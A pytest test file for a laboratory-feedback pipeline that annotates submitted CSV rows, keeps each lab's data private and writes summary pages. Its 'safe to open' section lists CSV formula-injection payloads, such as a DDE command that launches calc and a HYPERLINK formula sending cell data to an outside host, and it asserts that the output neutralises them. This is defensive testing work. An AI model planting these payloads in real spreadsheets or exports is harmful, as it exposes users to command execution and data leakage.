"""What a laboratory gets back: its own rows with remarks and a page in plain words, safe, private and only its own."""

import csv
import io
import json
import stat
import unicodedata
from collections import Counter
from dataclasses import replace
from pathlib import Path
from typing import Any

import duckdb
import pytest
import yaml
from intake_home import FORMAT, HEADER, export, make_home, put, row

from pipeline.errors import SettingsError
from pipeline.feedback import FeedbackSummary, write_feedback
from pipeline.feedback.annotated import OUR_COLUMNS
from pipeline.feedback.exports import Export
from pipeline.feedback.fates import create_fates
from pipeline.feedback.summary import Finding, Tally, page
from pipeline.feedback.wording import DISPOSITIONS, Wording
from pipeline.home import Home
from pipeline.ingest import ingest
from pipeline.messages import MESSAGES
from pipeline.records import RECORDS
from pipeline.resources import EXPECTATIONS_DIR
from pipeline.run import build_and_tell
from pipeline.settings import Settings
from pipeline.warehouse import build

Row = dict[str, str]


def other_lab(lab: str) -> str:
    """The same format, sent by another laboratory; results are measured by the same one for the same patients."""
    return FORMAT.replace("id: riverside_titres", f"id: {lab}_titres").replace("lab: riverside", f"lab: {lab}")


def tell(settings: Settings) -> FeedbackSummary:
    """Everything that waits taken in, the warehouse built and the laboratories told."""
    ingest(settings)
    build(settings)
    return write_feedback(settings)


def annotated(home: Home, stem: str, lab: str = "riverside", separator: str = ",") -> tuple[list[str], list[Row]]:
    """Column names and rows of an annotated file; a row's cells by name, our own columns first."""
    text = (home.feedback / lab / f"{stem}.annotated.csv").read_text(encoding="utf-8-sig")
    names, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    return names, [dict(zip(names, cells, strict=True)) for cells in rows]


def summary(home: Home, stem: str, lab: str = "riverside") -> str:
    return (home.feedback / lab / f"{stem}.summary.txt").read_text(encoding="utf-8")


def dispositions(home: Home, file_name: str) -> list[tuple[str, str, str | None]]:
    """Place, disposition and reasons of every row of an export, as the warehouse has them."""
    with duckdb.connect(str(home.warehouse_file), read_only=True) as con:
        return con.execute(
            "SELECT place, disposition, reasons FROM mart_row_disposition WHERE file_name = ? ORDER BY row_number",
            [file_name],
        ).fetchall()


# --- every row comes back ---------------------------------------------------------------------------------------------

MESSY = "\n".join([
    "SYNTHETIC list of the riverside laboratory",
    "Patient;Accession;Test;Collected;Received;Reported;Result;Status",
    "R0001;A1;GM1M;2024-01-02;2024-01-03;2024-01-05;1:800;F",
    "",
    'R0002;A2;GM1M;2024-01-02;2024-01-03;2024-01-05;"1:800\nsecond line";F',
    "R0003;A3;GM1M;2024-01-02",
    "QC1;A4;GM1M;2024-01-02;2024-01-03;2024-01-05;1:800;F",
    "R0005;A5;GM1M;2024-13-02;2024-01-03;2024-01-05;größer;F",
    "Anzahl Befunde: 5",
]) + "\n"  # fmt: skip
MESSY_FORMAT = FORMAT.replace(
    'file: {encoding: utf-8, delimiter: ",", date: "%Y-%m-%d"}',
    'file: {encoding: cp1252, delimiter: ";", date: "%Y-%m-%d", header_row: 2, '
    'footer: {matches: "^Anzahl", stated_rows: "^Anzahl Befunde: ([0-9]+)"}}',
)


def test_every_physical_row_comes_back_with_the_fate_it_has_in_the_warehouse(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path, MESSY_FORMAT)
    put(home, "titres_1.csv", MESSY.encode("cp1252"))
    tell(settings)
    names, rows = annotated(home, "titres_1.csv", separator=";")
    assert names == [*OUR_COLUMNS, *HEADER.split(",")]
    fates = dispositions(home, "titres_1.csv")
    assert [(r["row"], r["disposition"], r["reasons"] or None) for r in rows] == fates
    assert Counter(r["disposition"] for r in rows) == {"layout": 4, "used": 1, "rejected": 3, "excluded": 1}
    # what the sender wrote, above the header, across lines, torn or below the last result
    assert [rows[at]["Patient"] for at in (0, 1, 3)] == ["SYNTHETIC list of the riverside laboratory", "Patient", ""]
    assert rows[4]["Result"] == "1:800\nsecond line"
    assert rows[5]["Patient"] == "R0003;A3;GM1M;2024-01-02"
    assert rows[7]["Result"] == "größer"
    assert rows[8]["Patient"] == "Anzahl Befunde: 5"


def test_what_to_change_names_every_reason_and_is_empty_where_nothing_is_wrong(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path, MESSY_FORMAT)
    put(home, "titres_1.csv", MESSY.encode("cp1252"))
    tell(settings)
    _, rows = annotated(home, "titres_1.csv", separator=";")
    checks = {c["id"]: c for c in yaml.safe_load((EXPECTATIONS_DIR / "titre.yaml").read_text())["checks"]}
    for one in rows:
        if one["disposition"] == "layout":
            assert one["what_to_change"] == ""
        for code in filter(None, one["reasons"].split("; ")):
            if code in checks:
                assert " ".join(checks[code]["if_failed"].split()) in one["what_to_change"]
    assert len(rows[7]["reasons"].split("; ")) >= 2
    assert rows[5]["what_to_change"] == "The row has fewer cells than the header. " + MESSAGES["too_few_columns"].remedy
    assert rows[6]["what_to_change"] == "Nothing to change: The row is a control."


# --- safe to open -----------------------------------------------------------------------------------------------------

ATTACKS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\tx", "  =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u00ad-1", "\u3000@x",
    "＝1+1", "＋1", "－1", "＠x", "﹢1", "﹣1", "﹦1", "﹫x", "−5", "=HYPERLINK(\"http://example.org/?\"&A1)", "=cmd|' /C calc'!A0",
    "x\n=1+1", "\n=1", "\r\n=1", "x;=1+1", "x,=1+1", "x\t=1+1", "\";=1+1", "\"=1", "\"\"=1", "x;\"=1", "x,\"\"=1", "x; \u200b=1", "a;b;=1,-2\t@3", "-", "+++", " +", "\x0b=1", "\x1f=1",
)  # fmt: skip
HARMLESS = (
    "SYNTHETIC; nothing, really | here",
    "5,5",
    "1:800",
    "<1:400",
    "P=1",
    "a-b",
    "(+)",
    "'quoted'",
    "ä",
    "",
    "0",
    "~",
    "#REF!",
    "{titer}",
)


def formulas(text: str, separator: str) -> list[str]:
    """The cells that a spreadsheet with this separator would run: as it trims and folds wide forms, before it looks."""
    found = []
    for cells in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator):
        for cell in cells:
            folded = unicodedata.normalize("NFKC", cell).replace("−", "-")
            visible = "".join(c for c in folded if unicodedata.category(c)[0] not in "CZ")
            if visible.startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r", "\n")):
                found.append(cell)
    return found


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def test_no_cell_is_taken_for_a_formula_wherever_a_spreadsheet_cuts_the_line(tmp_path: Path) -> None:
    name = '=cmd|" /C calc"!A0'
    declared = FORMAT + f"ignore: [{{column: Note, why: free text}}, {{column: {json.dumps(name)}, why: invented}}]\n"
    home, settings = make_home(tmp_path, declared)
    lines = [f"{HEADER},Note,{quoted(name)}"]
    for at, cell in enumerate((*ATTACKS, *HARMLESS)):
        lines.append(f"{row(f'R{at:04}', f'A{at}')},{quoted(cell)},x")
    put(home, "titres_1.csv", "\n".join(lines) + "\n")
    tell(settings)
    text = (home.feedback / "riverside" / "titres_1.csv.annotated.csv").read_bytes().decode()
    for separator in (",", ";", "\t"):
        assert formulas(text, separator) == []
    names, rows = annotated(home, "titres_1.csv")
    assert names[-1] == f"'{name}"
    # line ends inside cells are made one kind at intake, as the file mixes them
    sent = [cell.replace("\r\n", "\n") for cell in (*ATTACKS, *HARMLESS)]
    # apostrophes apart, every cell comes back as it was sent
    assert [one["Note"].replace("'", "") for one in rows[1:]] == [cell.replace("'", "") for cell in sent]
    # and what is harmless gets none
    assert [one["Note"] for one in rows[1 + len(ATTACKS) :]] == list(HARMLESS)


def test_a_torn_line_and_a_preamble_are_made_safe_as_well(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path, MESSY_FORMAT)
    text = MESSY.replace("SYNTHETIC list", "=SYNTHETIC list").replace("R0003;A3", "@R0003;A3")
    put(home, "titres_1.csv", text.encode("cp1252"))
    tell(settings)
    _, rows = annotated(home, "titres_1.csv", separator=";")
    assert rows[0]["Patient"].startswith("'=SYNTHETIC")
    assert rows[5]["Patient"].startswith("'@R0003")


# --- one laboratory's data only ---------------------------------------------------------------------------------------


def test_a_repeat_names_the_original_only_when_it_is_the_laboratorys_own(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path, FORMAT, other_lab("lakeside"))
    put(home, "titres_first.csv", export(row("R0001", "A1"), row("R0002", "A2")))
    put(home, "titres_second.csv", export(row("R0003", "A3"), row("R0003", "A3"), row("R0002", "A2")))
    ingest(settings)
    put(home, "titres_secret.csv", export(row("R0009", "A9"), row("R0001", "A1")), lab="lakeside")
    tell(settings)
    _, rows = annotated(home, "titres_second.csv")
    assert [one["disposition"] for one in rows] == ["layout", "used", "duplicate", "duplicate"]
    assert rows[2]["what_to_change"].endswith("The original is row 2 of this file.")
    assert "The original is row 3 of titres_first.csv, received on 2" in rows[3]["what_to_change"]
    _, rows = annotated(home, "titres_secret.csv", "lakeside")
    assert [one["disposition"] for one in rows] == ["layout", "used", "duplicate"]
    assert rows[2]["what_to_change"].endswith("The original was sent by another laboratory.")


def test_nothing_of_another_laboratory_is_in_a_laboratorys_folder(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path, FORMAT, other_lab("lakeside"))
    put(home, "titres_riverside.csv", export(row("R0001", "A1"), row("R1111", "B1"), row("R0007", "C7", "1:800")))
    put(
        home,
        "titres_lakeside.csv",
        export(row("R0001", "A1"), row("R2222", "B2"), row("R0007", "C7", "1:1600")),
        lab="lakeside",
    )
    tell(settings)
    for lab, others in (
        ("riverside", ("lakeside", "R2222", "1:1600")),
        ("lakeside", ("riverside", "R1111", "1:800\n")),
    ):
        files = [path for path in (home.feedback / lab).iterdir() if path.name != ".state.json"]
        assert len(files) == 2
        text = "".join(path.read_text() for path in files)
        assert [word for word in others if word in text] == []
        # the two laboratories sent different values for one result; each hears only that
        assert "conflicting_values" in text


# --- private, and written only when there is news ---------------------------------------------------------------------


def test_feedback_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    put(home, "titres_1.csv", export(row()))
    home.feedback.chmod(0o755)
    tell(settings)
    for path in [home.feedback, *home.feedback.rglob("*")]:
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
    assert {path.name for path in (home.feedback / "riverside").iterdir()} == {
        ".state.json", "titres_1.csv.annotated.csv", "titres_1.csv.summary.txt"}  # fmt: skip


def files_of(home: Home, stem: str) -> dict[str, tuple[int, int]]:
    """Which file is at each name: a rewritten one is another."""
    return {path.name: (path.stat().st_ino, path.stat().st_mtime_ns) for path in home.feedback.rglob(f"{stem}.*")}


def test_only_the_exports_whose_outcome_changed_are_written_again(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    put(home, "titres_1.csv", export(row("R0001", "A1")))
    put(home, "titres_2.csv", export(row("R0002", "A2")))
    first = tell(settings)
    before = {name: files_of(home, name) for name in ("titres_1.csv", "titres_2.csv")}
    second = tell(settings)
    assert (first.exports_told, second.exports_told, second.exports_unchanged) == (2, 0, 2)
    corrected = row("R0001", "A1", "1:1600", status="C").replace("2024-01-05", "2024-01-09")
    put(home, "titres_3.csv", export(corrected))
    third = tell(settings)
    assert (third.exports_told, third.exports_unchanged) == (2, 1)
    assert files_of(home, "titres_2.csv") == before["titres_2.csv"]
    assert not set(files_of(home, "titres_1.csv").values()) & set(before["titres_1.csv"].values())
    _, rows = annotated(home, "titres_1.csv")
    assert rows[1]["disposition"] == "superseded"
    assert "The other row is row 2 of titres_3.csv" in rows[1]["what_to_change"]


def test_a_file_that_was_taken_away_and_a_damaged_memory_are_written_again(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    put(home, "titres_1.csv", export(row()))
    tell(settings)
    (home.feedback / "riverside" / "titres_1.csv.summary.txt").unlink()
    assert write_feedback(settings).exports_told == 1
    (home.feedback / "riverside" / ".state.json").write_text("{")
    assert write_feedback(settings).exports_told == 1
    assert write_feedback(settings).exports_unchanged == 1


def test_two_exports_of_one_name_have_feedback_of_their_own(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    path = put(home, "titres_1.csv", export(row("R0001", "A1")))
    ingest(settings)
    path.write_text(export(row("R0002", "A2"), row("R0003", "A3")))
    tell(settings)
    receipts = [json.loads(file.read_text()) for file in home.receipts.iterdir()]
    second = next(one for one in receipts if one["bytes"] == path.stat().st_size)
    names = {file.name for file in (home.feedback / "riverside").iterdir() if file.name != ".state.json"}
    stems = ("titres_1.csv", f"titres_1.csv.{second['arrival_id'][:8]}")
    assert names == {f"{stem}.{ending}" for stem in stems for ending in ("annotated.csv", "summary.txt")}
    assert [len(annotated(home, stem)[1]) for stem in stems] == [2, 3]


def test_a_very_long_file_name_still_gets_its_feedback(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    name = "titres_" + "ä" * 120 + ".csv"
    put(home, name, export(row()))
    assert tell(settings).problems == []
    assert len(list((home.feedback / "riverside").glob("titres_*"))) == 2


def test_a_look_back_leaves_the_feedback_as_it_is(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    put(home, "titres_1.csv", export(row()))
    ingest(settings)
    told = build_and_tell(settings)
    assert (told["exports"], told["feedback_exports_told"]) == (1, 1)
    before = files_of(home, "titres_1.csv")
    assert "feedback_exports_told" not in build_and_tell(settings, "2001-01-01T00:00:00Z")
    assert files_of(home, "titres_1.csv") == before


def test_without_a_warehouse_it_says_what_to_do(tmp_path: Path) -> None:
    _, settings = make_home(tmp_path)
    with pytest.raises(SettingsError, match="gm1 build"):
        write_feedback(settings)


# --- the page ---------------------------------------------------------------------------------------------------------


FIRST_LINES = (
    ("titres_a.csv", export(row("R0001", "A1"), row("R0002", "A2")), "All 2 data rows of this file were used."),
    ("titres_b.csv", export(row("R0003", "A3")), "The one data row of this file was used."),
    ("titres_c.csv", export(row("R0004", "A4"), row("R0005", "A5", "?")),
     "1 of the 2 data rows of this file were used; the other 1 not."),
    ("titres_d.csv", export(), "Nothing of this file was used: it has no data rows."),
    ("titres_e.csv", export(row("R0006", "A6", "?")),
     "Nothing of this file was used: its one data row is not used: to be corrected and sent again."),
    ("titres_f.csv", export(row("R0007", "A7", "?"), row("QC1", "A2")),
     "Nothing of this file was used: none of its 2 data rows could be."),
    ("titres_g.csv", export(row("R0008", "A8", test="GD1A"), row("QC1", "A2")),
     "Nothing of this file was used: all 2 data rows are left out on purpose: no patient result of interest."),
    ("titres_h.csv", "", "Nothing of this file was used: the file has no bytes."),
    ("titres_i.csv", "Patient,Something\nx,y\n", "Nothing of this file was used: the header row is not the declared one."),
    ("other.csv", "x\n",
     "Nothing of this file was used: no description of an export of yours fits the file's name and form."),
)  # fmt: skip


def test_the_first_line_says_whether_anything_was_used(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    for name, content, _ in FIRST_LINES:
        put(home, name, content)
    assert tell(settings).problems == []
    for name, _, first_line in FIRST_LINES:
        lines = summary(home, name).splitlines()
        assert " ".join(lines[: lines.index("")]) == first_line


def test_a_file_that_is_held_whole_has_a_page_and_no_copy_with_remarks(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    put(home, "titres_1.csv", export(row()).replace("Result,", "Outcome,"))
    tell(settings)
    text = summary(home, "titres_1.csv")
    assert "missing: Result" in text
    assert "There is no copy of this file with remarks" in text
    assert not (home.feedback / "riverside" / "titres_1.csv.annotated.csv").exists()


def test_bytes_that_are_gone_are_told_and_keep_no_other_export_from_its_feedback(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    put(home, "titres_1.csv", export(row("R0001", "A1")))
    put(home, "titres_2.csv", export(row("R0002", "A2")))
    ingest(settings)
    build(settings)
    receipt = next(
        r for f in home.receipts.iterdir() if (r := json.loads(f.read_text()))["file_name"] == "titres_1.csv"
    )
    kept = home.archive_path(receipt["sha256"]).read_bytes()
    home.archive_path(receipt["sha256"]).unlink()
    told = write_feedback(settings)
    assert told.exports_told == 2
    assert len(told.problems) == 1 and "riverside/titres_1.csv" in told.problems[0]
    assert "no copy of this file" in summary(home, "titres_1.csv")
    home.archive_path(receipt["sha256"]).write_bytes(kept)
    # what met a problem is tried again
    assert write_feedback(settings).exports_told == 1
    assert len(annotated(home, "titres_1.csv")[1]) == 2


def test_rows_that_can_no_longer_be_told_apart_are_never_put_beside_anothers_fate(tmp_path: Path) -> None:
    home, settings = make_home(tmp_path)
    put(home, "titres_1.csv", export(row(), '"two\nlines",A2,GM1M,2024-01-02,2024-01-03,2024-01-05,1:800,F'))
    ingest(settings)
    build(settings)
    declared = settings.labs_dirs[0] / "0.yaml"
    declared.write_text(declared.read_text().replace('delimiter: ",",', 'delimiter: ",", quote: "",'))
    told = write_feedback(settings)
    assert len(told.problems) == 1 and "gm1 replay" in told.problems[0]
    assert not (home.feedback / "riverside" / "titres_1.csv.annotated.csv").exists()
    assert "1 of the 2 data rows" in summary(home, "titres_1.csv")


def known_export(**changed: Any) -> Export:
    whole = Export(
        "a" * 16,
        "riverside",
        "titres_1.csv",
        "b" * 64,
        "f",
        "2024-02-01 10:00",
        400,
        "titres_1.csv",
        "x",
        None,
        None,
        (),
    )
    return replace(whole, **changed)


def every_finding(wording: Wording, checks: list[str]) -> list[Finding]:
    places = tuple(f"sheet Serology of the second quarter, row {n}" for n in range(100000, 100006))
    return [Finding("rejected", wording.said(code), 4000, places) for code in checks] + [
        Finding(message.disposition, wording.said(code), 4000, places) for code, message in MESSAGES.items()
    ]


def check_texts() -> dict[str, tuple[str, str]]:
    """Why and what to do of every check on a landed record."""
    files = [yaml.safe_load((EXPECTATIONS_DIR / f"{record}.yaml").read_text()) for record in RECORDS]
    return {
        c["id"]: (" ".join(c["why"].split()), " ".join(c["if_failed"].split()))
        for file in files
        for c in file["checks"]
    }


@pytest.mark.parametrize("held", [None, "header_differs"])
def test_the_summary_is_one_page_whatever_happened(held: str | None) -> None:
    checks = check_texts()
    wording = Wording(checks)
    export_ = known_export(file_name="x" * 255 + "\n", held_reason=held, held_detail="column " * 500)
    tally = Tally(dict.fromkeys(DISPOSITIONS, 1_000_000))
    text = page(export_, wording.said(held) if held else None, tally, every_finding(wording, list(checks)), True)
    assert len(text.splitlines()) <= 62
    if held is None:
        assert "more kinds of reasons" in text


def test_every_text_a_laboratory_can_get_speaks_its_language_and_says_something() -> None:
    checks = check_texts()
    wording = Wording(checks)
    for code in (*MESSAGES, *checks):
        said = wording.said(code)
        assert said.meaning and said.text.endswith("."), code
        for word in ("YAML", "`", "gm1", "reviewer", "performing_labs"):
            assert word not in said.text, (code, said.text)
        if said.is_theirs:
            assert said.remedy, code


def test_every_disposition_has_its_words() -> None:
    with (EXPECTATIONS_DIR / "mart_row_disposition.yaml").open() as file:
        checks = {c["id"]: c for c in yaml.safe_load(file)["checks"]}
    assert set(checks["mart_row_disposition_known"]["arguments"]["value_set"]) == set(DISPOSITIONS)


# --- several results in a row -----------------------------------------------------------------------------------------


def test_several_results_of_a_row_share_its_line_and_are_told_apart() -> None:
    con = duckdb.connect()
    con.execute("CREATE SCHEMA warehouse")
    con.execute("""CREATE VIEW disposition AS FROM (VALUES
        ('a', 'riverside', 'f', 1, 1, 'row 1', 'layout', 'header', NULL, NULL, NULL),
        ('a', 'riverside', 'f', 2, 1, 'row 2', 'used', NULL, NULL, NULL, NULL),
        ('a', 'riverside', 'f', 2, 2, 'row 2', 'rejected', 'too_few_columns', NULL, NULL, NULL),
        ('a', 'riverside', 'f', 3, 1, 'row 3', 'used', NULL, NULL, NULL, NULL),
        ('a', 'riverside', 'f', 3, 2, 'row 3', 'layout', 'not_requested', NULL, NULL, NULL),
        ('a', 'riverside', 'f', 4, 1, 'row 4', 'duplicate', 'exact_copy', 'a', 3, 1),
        ('a', 'riverside', 'f', 4, 2, 'row 4', 'duplicate', 'exact_copy', 'z', 9, 1),
        ('z', 'lakeside', 'g', 9, 1, 'row 9', 'used', NULL, NULL, NULL, NULL)
      ) AS t(arrival_id, sending_lab, file_name, row_number, slot, place, disposition, reasons, original_arrival_id,
             original_row_number, original_slot)""")
    con.execute("""CREATE VIEW warehouse.mart_check_failure AS FROM (VALUES ('warn', 'warning', 'a', 2, 1))
        AS t(check_id, severity, arrival_id, row_number, slot)""")
    con.execute("""CREATE VIEW warehouse.mart_reconciliation AS FROM (VALUES
        ('a', 'riverside', TIMESTAMP '2024-01-01'), ('z', 'lakeside', TIMESTAMP '2024-01-02'))
        AS t(arrival_id, sending_lab, received_at)""")
    create_fates(con, known_export(arrival_id="a"), Wording({"warn": ("Odd.", "Look again.")}))
    rows = con.execute("SELECT place, disposition, reasons, what FROM row_fate ORDER BY row_number").fetchall()
    too_few = Wording({}).said("too_few_columns").text
    copied = "Nothing to change: The same row was sent before. The original "
    assert rows == [
        ("row 1", "layout", "header", ""),
        ("row 2", "result 1: used; result 2: rejected", "result 1: warn; result 2: too_few_columns",
         f"result 1: Odd. Look again. result 2: {too_few}"),
        ("row 3", "used", None, ""),
        ("row 4", "duplicate", "result 1: exact_copy; result 2: exact_copy",
         f"result 1: {copied}is row 3 of this file. result 2: {copied}was sent by another laboratory."),
    ]  # fmt: skip
